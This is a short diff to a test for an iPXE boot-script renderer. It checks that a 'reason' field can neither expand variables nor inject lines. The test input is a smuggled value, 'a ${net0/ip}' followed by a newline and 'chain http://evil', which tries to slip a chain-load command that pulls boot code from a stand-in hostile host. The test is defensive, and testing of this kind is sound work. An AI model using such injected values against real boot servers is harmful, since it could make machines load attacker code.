@@ -56,7 +56,8 @@ exit 1
   });
 
   it("keeps iPXE from expanding variables or breaking lines in a reason", () => {
-    const script = renderIpxeScript({ kind: "ignore", mac: "m", arch: "bios", reason: "a ${net0/ip}\nchain http://evil", sources: [] });
+    const ignored = planBoot({ mac: "52:54:00:00:00:02", arch: "bios" }, config, undefined, server);
+    const script = renderIpxeScript({ ...ignored, mac: "m", reason: "a ${net0/ip}\nchain http://evil" } as typeof ignored);
     expect(script).toContain("echo recon: not booting m: a {net0/ip} chain http://evil\n");
     expect(script.split("\n").filter((line) => line.startsWith("chain"))).toEqual([]);
   });
